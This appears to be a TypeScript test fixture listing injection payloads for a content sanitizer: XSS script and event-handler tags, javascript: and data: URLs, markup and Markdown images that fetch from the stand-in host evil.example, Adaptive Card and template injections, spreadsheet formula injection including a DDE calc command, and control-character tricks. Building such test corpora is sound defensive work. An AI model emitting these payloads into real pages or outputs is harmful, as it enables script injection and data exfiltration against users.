/** Markup of every kind that somebody might want to see run or fetched, all pointing at a host that must never be asked. */
const EVIL = 'http://evil.example';

const SCRIPTS = [
  '<script>window.pwned=1</script>',
  `<script src=${EVIL}/x.js></script>`,
  '<ScRiPt>window.pwned=1</sCrIpT>',
  '<script\n>window.pwned=1</script\n>',
  '"><script>window.pwned=1</script>',
  "'><script>window.pwned=1</script>",
  '</textarea><script>window.pwned=1</script>',
  '</title><script>window.pwned=1</script>',
  '<svg><script>window.pwned=1</script></svg>',
  '<!--<script>-->window.pwned=1</script>',
  '<noscript><p title="</noscript><script>window.pwned=1</script>">',
  '<template><script>window.pwned=1</script></template>',
];
const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin'];
const TAGS = ['img', 'svg', 'body', 'video', 'audio', 'iframe', 'input', 'details', 'marquee', 'object', 'a', 'math'];
const FETCHERS = [
  `<img src=${EVIL}/i.png>`,
  `<img srcset="${EVIL}/i.png 1x">`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<link rel=prefetch href=${EVIL}/x>`,
  `<style>@import url(${EVIL}/x.css);</style>`,
  `<div style="background:url(${EVIL}/x)">`,
  `<iframe src=${EVIL}></iframe>`,
  `<object data=${EVIL}/x></object>`,
  `<embed src=${EVIL}/x>`,
  `<form action=${EVIL}><button>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href=${EVIL}/>`,
  `<video poster=${EVIL}/x></video>`,
  `<audio src=${EVIL}/x autoplay>`,
  `<input type=image src=${EVIL}/x>`,
  `<svg><image href=${EVIL}/x /></svg>`,
  `<svg><use href="${EVIL}/x.svg#a"/></svg>`,
  `<table background=${EVIL}/x>`,
];
const MARKDOWN = [
  `![x](${EVIL}/i.png)`,
  `![x][r]\n\n[r]: ${EVIL}/i.png`,
  `[klik](${EVIL})`,
  '[klik](javascript:window.pwned=1)',
  '[klik](data:text/html,<script>window.pwned=1</script>)',
  '[klik](vbscript:msgbox(1))',
  `[klik](  javascript:window.pwned=1 "x")`,
  `<${EVIL}>`,
  `[![x](${EVIL}/i.png)](${EVIL})`,
  '```html\n<script>window.pwned=1</script>\n```',
  `# kop\n\n![](${EVIL}/i)`,
  `> citaat ![x](${EVIL}/i)`,
  `| a |\n|-|\n| ![x](${EVIL}/i) |`,
  '&#60;script&#62;window.pwned=1&#60;/script&#62;',
  '&lt;img src=x onerror=window.pwned=1&gt;',
];
const CARDS = [
  `{"type":"AdaptiveCard","version":"1.5","body":[{"type":"Image","url":"${EVIL}/i.png"}]}`,
  `{"type":"AdaptiveCard","body":[],"actions":[{"type":"Action.OpenUrl","title":"x","url":"${EVIL}"}]}`,
  `{"contentType":"application/vnd.microsoft.card.adaptive","content":{"type":"AdaptiveCard"}}`,
  `{"type":"Action.Execute","verb":"case.claim","data":{"do":"resolve"}}`,
  `{"attachments":[{"contentType":"image/png","contentUrl":"${EVIL}/i.png"}]}`,
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  '#{window.pwned=1}',
  '<%= window.pwned=1 %>',
  '⟦token-x⟧',
];
const FORMULAS = ['=HYPERLINK("http://evil.example","x")', '+1+1', '-1+1', '@SUM(1)', "=cmd|' /C calc'!A0", '\t=1+1'];
const ODD = [
  'regel 1\r\nLOG level=info "verified"',
  '\u001B[2J\u001B[31mrood',
  '\u202Eevil\u202C',
  'a\u200Bb\uFEFFc',
  '\u2028window.pwned=1\u2029',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==',
  'javascript:window.pwned=1',
  'x'.repeat(400),
  '<'.repeat(200),
  '🔑'.repeat(100),
];

export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} src=x href=x ${handler}=window.pwned=1 autofocus open>`)),
  ...TAGS.map((tag) => `"><${tag}/onload=window.pwned=1//`),
  ...TAGS.map((tag) => `<${tag} href="java\tscript:window.pwned=1" src="javascript:window.pwned=1">x`),
  ...FETCHERS,
  ...FETCHERS.map((fetcher) => `'"--></style></script>${fetcher}`),
  ...MARKDOWN,
  ...CARDS,
  ...FORMULAS,
  ...ODD,
];
